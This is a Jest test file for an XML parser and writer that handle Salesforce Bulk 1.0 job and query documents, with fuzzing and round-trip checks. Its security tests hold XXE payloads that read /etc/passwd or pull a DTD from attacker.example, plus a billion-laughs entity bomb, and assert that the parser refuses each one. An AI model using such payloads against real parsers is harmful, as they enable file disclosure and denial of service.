/* eslint-disable @n8n/community-nodes/no-restricted-imports, @n8n/community-nodes/no-restricted-globals -- test code: reads the recorded responses */
// xml.ts: checked against fast-xml-parser on recorded Bulk 1.0 responses and generated documents,
// plus security (XXE, billion laughs), fuzzing and the writer.
import { XMLParser } from 'fast-xml-parser';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import {
	ASYNC_API_NS,
	BULK1_LIST_ELEMENTS,
	XmlError,
	escapeXml,
	parseXml,
	parseXmlObject,
	sObjectsXml,
	toXml,
	xmlToObject,
	type XmlValue,
} from '../../../nodes/shared/xml';
import { int, pick, rng, type Rng } from './random';

const V1 = join(__dirname, '..', '..', 'fixtures', 'recorded-responses', 'v1');

const reference = new XMLParser({
	ignoreAttributes: true,
	removeNSPrefix: true,
	parseTagValue: false,
	trimValues: false,
	htmlEntities: true,
	ignoreDeclaration: true,
	ignorePiTags: true,
	isArray: (name, jpath) => BULK1_LIST_ELEMENTS.has(name) && String(jpath).includes('.'), // never the root
});

/** fast-xml-parser keeps whitespace between elements as '#text'; we drop it. */
function normalize(value: unknown): unknown {
	if (Array.isArray(value)) return value.map(normalize);
	if (value !== null && typeof value === 'object') {
		const out: Record<string, unknown> = {};
		for (const [k, v] of Object.entries(value)) {
			if (k === '#text' && typeof v === 'string' && v.trim() === '') continue;
			out[k] = normalize(v);
		}
		return out;
	}
	return value;
}

function referenceParse(text: string): { name: string; value: unknown } {
	const doc = normalize(reference.parse(text)) as Record<string, unknown>;
	const [name] = Object.keys(doc);
	return { name, value: doc[name] };
}

interface Interaction {
	request_body?: string | null;
	response_body: string | { template: { include_template: string; vars: Record<string, string> } };
}

/** Every recorded XML body: the .xml files, the cassette bodies, and CumulusCI templates filled in. */
function recordedDocuments(): Array<[string, string]> {
	const docs: Array<[string, string]> = [];
	for (const f of readdirSync(V1).filter((f) => f.endsWith('.xml'))) docs.push([f, readFileSync(join(V1, f), 'utf8')]);
	const templates = join(V1, 'cumulusci', 'templates');
	const fill = (tpl: string, vars: Record<string, string>) =>
		tpl.replace(/\{(\w+)(?::([^}]*))?\}/g, (_, name: string, def?: string) => vars[name] ?? def ?? `X-${name}`);
	for (const f of readdirSync(templates)) docs.push([`template ${f}`, fill(readFileSync(join(templates, f), 'utf8'), {})]);
	const interactions = JSON.parse(readFileSync(join(V1, 'cumulusci', 'bulk-v1-interactions.json'), 'utf8')) as Interaction[];
	interactions.forEach((it, i) => {
		const body = it.response_body;
		if (typeof body === 'string' && body.trimStart().startsWith('<')) docs.push([`cassette ${i} response`, body]);
		if (typeof body === 'object' && body?.template) {
			const tpl = readFileSync(join(templates, body.template.include_template), 'utf8');
			docs.push([`cassette ${i} ${body.template.include_template}`, fill(tpl, body.template.vars)]);
		}
		if (typeof it.request_body === 'string' && it.request_body.startsWith('<') && it.request_body !== '<omitted>') docs.push([`cassette ${i} request`, it.request_body]);
	});
	return docs;
}

describe('recorded Bulk 1.0 responses', () => {
	const docs = recordedDocuments();

	it('found the fixtures', () => {
		expect(docs.length).toBeGreaterThan(30);
	});

	it.each(docs)('%s agrees with fast-xml-parser', (_name, text) => {
		expect(parseXmlObject(text)).toEqual(referenceParse(text));
	});

	it('reads jobInfo, batchInfoList and error documents', () => {
		const job = parseXmlObject(readFileSync(join(V1, 'jobInfo-closed.jetstream-real-v65.xml'), 'utf8'));
		expect(job.name).toBe('jobInfo');
		expect(job.value).toMatchObject({ id: '750Kf00000R1wzRIAR', state: 'Closed', apiVersion: '65.0', numberRecordsFailed: '251' });
		const list = parseXmlObject(readFileSync(join(V1, 'batchInfoList-single.jetstream-real-v65.xml'), 'utf8'));
		expect((list.value as { batchInfo: unknown[] }).batchInfo).toHaveLength(1);
		const error = parseXml(readFileSync(join(V1, 'error-InvalidBatch.jetstream.xml'), 'utf8'));
		expect(error.name).toBe('error');
		expect(error.attributes.xmlns).toBe(ASYNC_API_NS);
		expect(error.children.map((c) => [c.name, c.text])).toEqual([
			['exceptionCode', 'InvalidBatch'],
			['exceptionMessage', 'Records not found for this batch'],
		]);
	});
});

describe('parseXml', () => {
	it('reads query results: nil, nested relationships, entities, CDATA, comments, PIs', () => {
		const text = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment -->
<queryResult xmlns="${ASYNC_API_NS}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <records xsi:type="sObject">
  <type>Contact</type>
  <Id>003A</Id>
  <Name>O&apos;Hara &amp; &lt;Sons&gt; &quot;q&quot; &#233;&#x1F600;</Name>
  <Email xsi:nil="true"/>
  <Account xsi:type="sObject"><type>Account</type><Id xsi:nil="true"/><Name><![CDATA[<b>&amp;</b>]]></Name></Account>
  <?ignored pi?>
  <Note>line1&#13;
line2  </Note>
 </records>
 <records xsi:type="sObject"><type>Contact</type><Id>003B</Id><Name></Name></records>
</queryResult>`;
		expect(parseXmlObject(text)).toEqual({
			name: 'queryResult',
			value: {
				records: [
					{
						type: 'Contact',
						Id: '003A',
						Name: 'O\'Hara & <Sons> "q" é😀',
						Email: null,
						Account: { type: 'Account', Id: null, Name: '<b>&amp;</b>' },
						Note: 'line1\r\nline2  ',
					},
					{ type: 'Contact', Id: '003B', Name: '' },
				],
			},
		});
	});

	it('reads load results with nested errors', () => {
		const text = `<results xmlns="${ASYNC_API_NS}"><result><id>001A</id><success>true</success><created>true</created></result>
<result><errors><fields>Name</fields><message>Required fields are missing: [Name]</message><statusCode>REQUIRED_FIELD_MISSING</statusCode></errors><success>false</success><created>false</created></result></results>`;
		expect(parseXmlObject(text).value).toEqual({
			result: [
				{ id: '001A', success: 'true', created: 'true' },
				{
					errors: [{ fields: ['Name'], message: 'Required fields are missing: [Name]', statusCode: 'REQUIRED_FIELD_MISSING' }],
					success: 'false',
					created: 'false',
				},
			],
		});
		expect(parseXmlObject(text).value).toEqual(referenceParse(text).value);
	});

	it('makes repeated elements lists and lets the caller choose list names', () => {
		const root = parseXml('<a><b>1</b><b>2</b><c>3</c><d><e>x</e></d></a>');
		expect(xmlToObject(root)).toEqual({ b: ['1', '2'], c: '3', d: { e: 'x' } });
		expect(xmlToObject(root, { isArray: (name, parent) => name === 'c' || (name === 'e' && parent === 'd') })).toEqual({
			b: ['1', '2'],
			c: ['3'],
			d: { e: ['x'] },
		});
		expect(parseXmlObject('<result-list xmlns="x"><result>752A</result></result-list>')).toEqual({
			name: 'result-list',
			value: { result: ['752A'] },
		});
	});

	it('keeps attributes and prefixes in the tree', () => {
		const root = parseXml(`<sf:a xmlns:sf="urn:x" k='v &amp; w' j = "2"><sf:b/></sf:a>`);
		expect(root).toMatchObject({ name: 'a', prefix: 'sf', attributes: { 'xmlns:sf': 'urn:x', k: 'v & w', j: '2' } });
		expect(root.children[0]).toMatchObject({ name: 'b', prefix: 'sf', text: '', nil: false });
	});

	it.each([
		['<a>', /Unclosed element <a>/],
		['<a></b>', /Expected <\/a> but found <\/b>/],
		['</a>', /Unexpected <\/a>/],
		['<a/><b/>', /More than one root/],
		['x<a/>', /Text outside the root/],
		['', /No root element/],
		['<a>&unknown;</a>', /Unknown or invalid entity/],
		['<a>&#0;</a>', /Unknown or invalid entity/],
		['<a>&#xD800;</a>', /Unknown or invalid entity/],
		['<a>& b</a>', /Unterminated entity|Unknown or invalid/],
		['<a b="1" b="2"/>', /Duplicate attribute/],
		['<a b=1/>', /not quoted/],
		['<a b="<"/>', /"<" in the value/],
		['<a b="1"c="2"/>', /separated by whitespace/],
		['<1a/>', /Invalid element name/],
		['<a><!-- x </a>', /Unterminated comment/],
		['<a><![CDATA[x</a>', /Unterminated CDATA/],
		['<?xml version="1.0"', /Unterminated processing instruction/],
		['<a>]]></a>', /"\]\]>" in character data/],
	])('refuses %j', (text, message) => {
		expect(() => parseXml(text)).toThrow(XmlError);
		expect(() => parseXml(text)).toThrow(message);
	});

	it('limits nesting depth', () => {
		const deep = '<a>'.repeat(150) + '</a>'.repeat(150);
		expect(() => parseXml(deep)).toThrow(/nested deeper than 100/);
		expect(parseXml(deep, { maxDepth: 200 }).name).toBe('a');
	});

	it('reads a large query result', () => {
		const record = (i: number) =>
			`<records xsi:type="sObject"><type>Account</type><Id>001${i}</Id><Name>Acme &amp; ${i}</Name><Phone xsi:nil="true"/></records>\n`;
		const large = `<queryResult xmlns:xsi="x">${Array.from({ length: 100000 }, (_, i) => record(i)).join('')}</queryResult>`;
		const records = (parseXmlObject(large).value as { records: Array<Record<string, unknown>> }).records;
		expect(records).toHaveLength(100000);
		expect(records[99999]).toEqual({ type: 'Account', Id: '00199999', Name: 'Acme & 99999', Phone: null });
	});
});

describe('security', () => {
	const payloads = [
		// XXE: external entity reading a file
		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><jobInfo>&xxe;</jobInfo>`,
		// external DTD
		`<?xml version="1.0"?><!DOCTYPE jobInfo SYSTEM "http://attacker.example/x.dtd"><jobInfo/>`,
		// parameter entities
		`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><r/>`,
		// billion laughs
		`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
			`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
			`<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol9;</lolz>`,
		// lower-case doctype and a declaration hidden after the root's start
		`<!doctype x [<!ENTITY a "b">]><x>&a;</x>`,
		`<x><!ENTITY a "b"></x>`,
	];

	it.each(payloads)('refuses %j', (payload) => {
		expect(() => parseXml(payload)).toThrow(XmlError);
		expect(() => parseXml(payload)).toThrow(/DOCTYPE|declarations/);
	});

	it('leaves undeclared entity references unexpanded (error, not lookup)', () => {
		expect(() => parseXml('<a>&xxe;</a>')).toThrow(/Unknown or invalid entity reference "&xxe;"/);
	});
});

describe('fuzz', () => {
	const valid = [
		...readdirSync(V1)
			.filter((f) => f.endsWith('.xml'))
			.map((f) => readFileSync(join(V1, f), 'utf8')),
		sObjectsXml([{ Name: 'a<b', Account: { Ext__c: 'x' }, Empty: null }]),
	];

	/** Returns a description of anything other than a result or an XmlError. */
	function check(text: string): string | undefined {
		try {
			parseXmlObject(text);
		} catch (e) {
			if (!(e instanceof XmlError)) return `${String(e)} for ${JSON.stringify(text).slice(0, 300)}`;
		}
		return undefined;
	}

	it('random bytes: a document or an XmlError', () => {
		const r = rng(5);
		const alphabet = ['<', '>', '/', '?', '!', '&', ';', '#', 'x', '"', "'", '=', ' ', 'a', '-', '[', ']', 'CDATA', 'DOCTYPE', ':', '\r', '\n', '😀'];
		for (let n = 0; n < 5000; n++) {
			const len = int(r, 0, 80);
			let text = '';
			for (let i = 0; i < len; i++) text += r() < 0.7 ? pick(r, alphabet) : String.fromCharCode(int(r, 0, 0xffff));
			expect(check(text)).toBeUndefined();
		}
	});

	it('mutated recorded documents: a document or an XmlError', () => {
		const r = rng(6);
		for (let n = 0; n < 5000; n++) {
			const chars = [...pick(r, valid)];
			for (let m = int(r, 1, 5); m > 0; m--) {
				const at = int(r, 0, chars.length);
				const op = r();
				if (op < 0.4) chars.splice(at, int(r, 1, 10));
				else if (op < 0.8) chars.splice(at, 0, pick(r, ['<', '>', '/', '&', '"', '<!', '<?', '<![CDATA[', ']]>', '&#x', 'xsi:nil="true"']));
				else chars[at] = pick(r, ['<', '>', '&', '"']);
			}
			expect(check(chars.join(''))).toBeUndefined();
		}
	});
});

// ---- writer ----

const XML_TEXT_PIECES = ['a', ' ', '  ', '<', '>', '&', '"', "'", '\r', '\n', '\r\n', '\t', 'é', '😀', ']]>', '&amp;', 'x'];

function randomText(r: Rng): string {
	let s = '';
	for (let i = int(r, 0, 6); i > 0; i--) s += pick(r, XML_TEXT_PIECES);
	return s;
}

describe('toXml', () => {
	it('writes the sObjects request format', () => {
		expect(sObjectsXml([{ Name: 'A & B', NumberOfEmployees: 5, Active__c: true, Parent: { Ext__c: 'X1' }, Fax: null, Skip: undefined }])).toBe(
			'<?xml version="1.0" encoding="UTF-8"?>' +
				`<sObjects xmlns="${ASYNC_API_NS}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` +
				'<sObject><Name>A &amp; B</Name><NumberOfEmployees>5</NumberOfEmployees><Active__c>true</Active__c>' +
				'<Parent><Ext__c>X1</Ext__c></Parent><Fax xsi:nil="true"/></sObject></sObjects>',
		);
	});

	it('writes jobInfo like Salesforce clients do', () => {
		expect(toXml('jobInfo', { operation: 'insert', object: 'Account', contentType: 'CSV' }, { namespace: ASYNC_API_NS })).toBe(
			`<?xml version="1.0" encoding="UTF-8"?><jobInfo xmlns="${ASYNC_API_NS}"><operation>insert</operation>` +
				'<object>Account</object><contentType>CSV</contentType></jobInfo>',
		);
		expect(toXml('state', 'Closed', { declaration: false })).toBe('<state>Closed</state>');
		expect(toXml('when', new Date(Date.UTC(2024, 0, 2, 3, 4, 5, 6)), { declaration: false })).toBe('<when>2024-01-02T03:04:05.006Z</when>');
	});

	it('escapes markup characters and CR, keeps tabs, newlines and emoji', () => {
		expect(escapeXml('a<b>&"c\'\r\n\t😀')).toBe('a&lt;b&gt;&amp;&quot;c\'&#13;\n\t😀');
		expect(escapeXml('plain')).toBe('plain');
	});

	it.each(['\u0000', '\u0001', '\u000b', '\u001f', '\ufffe', '\uffff', '\ud800', 'a\udc00b'])('refuses %j', (bad) => {
		expect(() => escapeXml(bad)).toThrow(XmlError);
		expect(() => toXml('a', { b: bad })).toThrow(/cannot be written in XML/);
	});

	it('refuses invalid names, nested lists and non-finite numbers', () => {
		expect(() => toXml('a', { 'bad name': 1 })).toThrow(/not a valid XML element name/);
		expect(() => toXml('1a', {})).toThrow(XmlError);
		expect(() => toXml('a', { b: [[1]] })).toThrow(/nested list/);
		expect(() => toXml('a', { b: NaN })).toThrow(/finite/);
		expect(() => toXml('a', { b: Symbol('x') })).toThrow(XmlError);
	});

	it('round-trips random documents through our parser and fast-xml-parser', () => {
		const r = rng(77);
		for (let n = 0; n < 500; n++) {
			const records = Array.from({ length: int(r, 1, 4) }, () => {
				const rec: Record<string, XmlValue> = {};
				for (let f = int(r, 1, 5); f > 0; f--) {
					const roll = r();
					rec[`F${f}__c`] = roll < 0.15 ? null : roll < 0.3 ? { Ext__c: randomText(r) } : randomText(r);
				}
				return rec;
			});
			const xml = sObjectsXml(records);
			const ours = parseXmlObject(xml);
			expect(ours).toEqual({ name: 'sObjects', value: { sObject: records } });
			// fast-xml-parser reports xsi:nil elements as '' (it ignores attributes here).
			const nilAsEmpty = JSON.parse(JSON.stringify(records, (_k, v: unknown) => (v === null ? '' : v))) as unknown;
			expect(referenceParse(xml)).toEqual({ name: 'sObjects', value: { sObject: nilAsEmpty } });
		}
	});
});
